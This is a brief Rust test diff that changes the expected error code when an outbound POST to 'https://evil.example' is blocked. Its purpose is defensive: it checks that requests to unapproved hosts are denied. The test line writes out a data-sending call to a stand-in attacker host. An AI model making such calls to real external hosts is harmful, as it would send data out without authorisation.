@@ -280,7 +280,7 @@ fn an_outbound_request_is_answered_by_the_test() {
     let elsewhere = outbound::post("https://evil.example")
         .form(&[("a", "b")])
         .send();
-    assert_eq!(elsewhere.unwrap_err().code(), "outbound.denied");
+    assert_eq!(elsewhere.unwrap_err().code(), "outbound.host_not_granted");
 }
 
 #[test]
